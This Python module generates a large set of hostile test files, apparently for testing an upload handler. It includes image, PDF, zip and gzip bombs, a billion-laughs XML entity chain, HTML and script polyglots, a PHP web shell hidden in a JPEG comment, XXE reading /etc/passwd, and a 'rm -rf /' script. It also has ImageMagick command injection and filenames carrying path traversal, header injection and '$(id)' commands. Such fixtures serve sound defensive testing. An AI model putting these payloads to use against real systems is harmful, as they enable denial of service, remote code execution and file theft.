"""More than a hundred files that mean harm: bombs, polyglots, truncated ones, pictures of impossible sizes, scripts
under other names, and names that are paths, headers or read backwards.
"""

import gzip
import io
import struct
import zipfile
import zlib

SCRIPT = b"<script>document.title='zqran'</script>"


def chunk(kind, held):
	return struct.pack(">I", len(held)) + kind + held + struct.pack(">I", zlib.crc32(kind + held))


def png(width, height, rows=b"\0" + bytes(3), extra=b"", depth=8, colour=2):
	return (
		b"\x89PNG\r\n\x1a\n"
		+ chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0))
		+ extra
		+ chunk(b"IDAT", zlib.compress(rows))
		+ chunk(b"IEND", b"")
	)


def jpeg(width, height, note=b""):
	"""Headers of a picture of that size, without its content."""
	app = b"\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
	com = b"\xff\xfe" + struct.pack(">H", len(note) + 2) + note if note else b""
	quant = b"\xff\xdb\x00\x43\x00" + bytes([1]) * 64
	frame = b"\xff\xc0\x00\x11\x08" + struct.pack(">HH", height, width) + b"\x03\x01\x11\x00\x02\x11\x00\x03\x11\x00"
	return (
		b"\xff\xd8"
		+ app
		+ com
		+ quant
		+ frame
		+ b"\xff\xda\x00\x0c\x03\x01\x00\x02\x00\x03\x00\x00\x3f\x00"
		+ bytes(40)
		+ b"\xff\xd9"
	)


def gif(width, height, body=b""):
	return (
		b"GIF89a"
		+ struct.pack("<HH", width, height)
		+ b"\x80\x00\x00\x00\x00\x00\xff\xff\xff"
		+ body
		+ b"\x2c\x00\x00\x00\x00"
		+ struct.pack("<HH", width, height)
		+ b"\x00\x02\x02\x44\x01\x00\x3b"
	)


def webp(width, height, held=b""):
	vp8x = (
		b"VP8X"
		+ struct.pack("<I", 10)
		+ b"\0\0\0\0"
		+ struct.pack("<I", width - 1)[:3]
		+ struct.pack("<I", height - 1)[:3]
	)
	return b"RIFF" + struct.pack("<I", 4 + len(vp8x) + len(held)) + b"WEBP" + vp8x + held


def box(kind, held=b""):
	return struct.pack(">I", len(held) + 8) + kind + held


def heic(width, height):
	ispe = box(b"ispe", bytes(4) + struct.pack(">II", width, height))
	return (
		box(b"ftyp", b"heic\0\0\0\0mif1heic")
		+ box(b"meta", bytes(4) + box(b"iprp", box(b"ipco", ispe)))
		+ box(b"mdat", bytes(64))
	)


def mp4(*boxes):
	return box(b"ftyp", b"isom\0\0\0\0isom") + b"".join(boxes)


def ogg(length=0, serial=1, flags=2):
	page = b"OggS\0" + bytes([flags]) + bytes(8) + struct.pack("<III", serial, 0, 0)
	return page + b"\x01\x13" + b"OpusHead\x01\x01\x38\x01\x80\xbb\0\0\0\0\0" + bytes(length)


def zipped(*members, **more):
	out = io.BytesIO()
	with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
		for name, content in members:
			z.writestr(name, content)
	return out.getvalue() + more.get("tail", b"")


def pdf(*objects, tail=b""):
	return (
		b"%PDF-1.7\n"
		+ b"\n".join(b"%d 0 obj%sendobj" % (n + 1, o) for n, o in enumerate(objects))
		+ b"\ntrailer<</Root 1 0 R>>\n%%EOF\n"
		+ tail
	)


def page(box_, more=b""):
	return pdf(
		b"<</Type/Catalog/Pages 2 0 R" + more + b">>",
		b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
		b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 " + box_ + b"]>>",
	)


SVG = b"<svg xmlns='http://www.w3.org/2000/svg' onload=\"document.title='zqran'\">" + SCRIPT + b"</svg>"
HTML = b"<!doctype html><html>" + SCRIPT + b"</html>"
GOOD = png(2, 2, b"\0" + bytes(6) + b"\0" + bytes(6))


def bombs():
	yield "50000x50000.png", png(50000, 50000)
	yield "deep.png", png(50000, 50000, b"\0" * 1000000, depth=16, colour=6)
	yield "tall.png", png(1, 2000000000)
	yield "zero.png", png(0, 0)
	yield "negative.png", png(0xFFFFFFFF, 0xFFFFFFFF)
	yield "rows.png", png(8000, 6000, bytes(20000000))
	yield (
		"note.png",
		png(2, 2, b"\0" + bytes(6) + b"\0" + bytes(6), chunk(b"zTXt", b"a\0\0" + zlib.compress(bytes(30000000)))),
	)
	yield (
		"profile.png",
		png(2, 2, b"\0" + bytes(6) + b"\0" + bytes(6), chunk(b"iCCP", b"a\0\0" + zlib.compress(bytes(30000000)))),
	)
	yield "many-chunks.png", png(2, 2, b"\0" + bytes(6) + b"\0" + bytes(6), chunk(b"tEXt", b"a\0b") * 50000)
	yield "65535.jpg", jpeg(65535, 65535)
	yield "0.jpg", jpeg(0, 0)
	yield "notes.jpg", b"\xff\xd8" + (b"\xff\xfe\xff\xff" + bytes(65533)) * 60 + b"\xff\xd9"
	yield "65535.gif", gif(65535, 65535)
	yield (
		"frames.gif",
		b"GIF89a"
		+ struct.pack("<HH", 4000, 4000)
		+ b"\x80\0\0\0\0\0\xff\xff\xff"
		+ (b"\x2c\0\0\0\0\xa0\x0f\xa0\x0f\0\x02\x02\x44\x01\0") * 20000
		+ b"\x3b",
	)
	yield "16383.webp", webp(16383, 16383)
	yield "largest.webp", webp(1 << 24, 1 << 24)
	yield "50000.heic", heic(50000, 50000)
	yield "wide.pdf", page(b"2000000000 2000000000")
	yield "nothing.pdf", page(b"0 0")
	yield "loop.pdf", pdf(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[2 0 R]/Count 1>>")
	yield "count.pdf", pdf(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[]/Count 2147483647>>")
	yield (
		"stream.pdf",
		page(b"9 9")
		+ b"4 0 obj<</Length 2147483647/Filter/FlateDecode>>stream\n"
		+ zlib.compress(bytes(5000000))
		+ b"\nendstream endobj",
	)
	yield "nested.pdf", b"%PDF-1.4\n1 0 obj" + b"[" * 200000 + b"]" * 200000 + b"endobj\n%%EOF"
	yield "bomb.docx", zipped(("word/document.xml", bytes(40000000)))
	yield (
		"laugh.docx",
		zipped(
			(
				"word/document.xml",
				b"<!DOCTYPE z [<!ENTITY a 'aaaa'>"
				+ b"".join(
					b"<!ENTITY b%d '%s'>" % (n, b"&b%d;" % (n - 1) * 10 if n else b"&a;" * 10) for n in range(12)
				)
				+ b"]><z>&b11;</z>",
			)
		),
	)
	yield "many.zip", zipped(*[("f%d" % n, b"") for n in range(5000)])
	yield "bomb.gz", gzip.compress(bytes(40000000))
	yield "huge-box.mp4", mp4(struct.pack(">I", 1) + b"moov" + struct.pack(">Q", 1 << 62))
	yield "boxes.mp4", mp4(*[box(b"moov", box(b"trak")) for _ in range(20000)])
	yield "endless.mp4", mp4(struct.pack(">I", 0) + b"moov")
	yield "pages.ogg", ogg() * 3000
	yield "lacing.ogg", b"OggS\0\x02" + bytes(20) + b"\xff" + b"\xff" * 255


def polyglots():
	yield "gif.html", gif(2, 2, b"\x21\xfe\xff" + HTML.ljust(255, b" ") + b"\0")
	yield "gifjs.gif", b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)//;"
	yield "comment.jpg", jpeg(8, 8, HTML)
	yield "tail.jpg", jpeg(8, 8) + HTML
	yield "tail.png", GOOD + HTML
	yield "text.png", png(2, 2, b"\0" + bytes(6) + b"\0" + bytes(6), chunk(b"tEXt", b"Comment\0" + SCRIPT))
	yield "php.jpg", jpeg(8, 8, b"<?php system($_GET['c']); ?>")
	yield "zip.png", GOOD + zipped(("a.html", HTML))
	yield "jar.gif", gif(2, 2) + zipped(("META-INF/MANIFEST.MF", b"Main-Class: A"))
	yield "html.pdf", HTML + page(b"9 9")
	yield "tail.pdf", page(b"9 9") + HTML
	yield "pdf.zip", page(b"9 9") + zipped(("a", b"b"))
	yield "js.pdf", page(b"9 9", b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>")
	yield "launch.pdf", page(b"9 9", b"/OpenAction<</S/Launch/F(/bin/sh)>>")
	yield "uri.pdf", page(b"9 9", b"/OpenAction<</S/URI/URI(http://127.0.0.1:9/)>>")
	yield "attach.pdf", page(b"9 9", b"/Names<</EmbeddedFiles<</Names[(a)<</F(a.exe)>>]>>>>")
	yield "riff.webp", b"RIFF\x40\0\0\0WEBP" + HTML
	yield "wav.html", b"RIFF\x40\0\0\0WAVE" + HTML
	yield "ogg.html", b"OggS" + HTML
	yield "mp3.html", b"ID3\x03\0\0\0\0\x0f\x76" + HTML
	yield "mp4.html", box(b"ftyp", b"isom\0\0\0\0isom") + box(b"free", HTML)
	yield "webm.html", b"\x1a\x45\xdf\xa3\xa3" + HTML
	yield "bmp.html", b"BM" + HTML
	yield "ico.html", b"\0\0\x01\0\x01\0" + HTML


def scripts():
	for name in ("a.svg", "a.jpg", "a.png", "a.xml", "a.html", "a.txt", "a.svgz"):
		yield name, gzip.compress(SVG) if name.endswith("z") else SVG
	for name in ("a.jpg", "a.jpeg", "a.gif", "a.webp", "a.pdf", "a.htm", "a.xhtml", "a.css", "a.js", "a.mht", "a.hta"):
		yield name, HTML
	yield "utf16.jpg", b"\xff\xfe" + HTML.decode().encode("utf-16-le")
	yield "utf7.txt", b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-"
	yield "bom.txt", b"\xef\xbb\xbf" + HTML
	yield "xsl.xml", b"<?xml version='1.0'?><?xml-stylesheet href='#' type='text/xsl'?>" + SVG
	yield "entity.xml", b"<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>"
	yield "shell.sh", b"#!/bin/sh\nrm -rf /\n"
	yield "elf.bin", b"\x7fELF\x02\x01\x01" + bytes(60)
	yield "mz.exe", b"MZ" + bytes(100)
	yield (
		"mvg.jpg",
		b"push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://127.0.0.1/x\"|id\")'\npop graphic-context",
	)
	yield "ps.jpg", b"%!PS\n(/etc/passwd) (r) file"
	yield "m3u.mp4", b"#EXTM3U\n#EXTINF:1,\nfile:///etc/passwd\n"


def truncated():
	whole = {
		"png": GOOD,
		"jpg": jpeg(64, 64),
		"gif": gif(2, 2),
		"webp": webp(8, 8),
		"heic": heic(8, 8),
		"pdf": page(b"9 9"),
		"ogg": ogg(200),
		"mp4": mp4(box(b"moov", bytes(80))),
	}
	for ending, content in whole.items():
		for part in (1, 4, 12, len(content) // 2, len(content) - 1):
			yield "cut-%d.%s" % (part, ending), content[:part]


def names():
	"""Whatever a file is called, with a picture in it."""
	for name in (
		"../../../etc/passwd",
		"..\\..\\windows\\system.ini",
		"/etc/shadow",
		"C:\\boot.ini",
		"\\\\host\\share",
		".htaccess",
		"..",
		".",
		"a/b/c.png",
		"a\0b.png",
		"a\r\nSet-Cookie: x=1.png",
		"a\nX-Evil: 1",
		"\"; filename=evil.html",
		"';alert(1)//",
		"<img src=x onerror=document.title='zqran'>.png",
		"{{csrf}}",
		"%2e%2e%2f",
		"%00.html",
		"photo\u202egnp.exe",
		"\u202e\u2066\u200f.pdf",
		"\ufeff\u200b.png",
		"con",
		"nul.png",
		"a" * 5000 + ".png",
		"\U0001f4a9" * 200,
		"e\u0301" * 300,
		" ",
		"\t",
		"-rf",
		"--",
		"|id",
		"$(id)",
		"`id`",
		"file:///etc/passwd",
		"javascript:alert(1)",
		"a\u2028b\u2029c",
	):
		yield name, GOOD


def all_files():
	"""(group, name, content), each content another one."""
	n = 0
	for group in (bombs, polyglots, scripts, truncated, names):
		for name, content in group():
			n += 1
			yield group.__name__, name, content
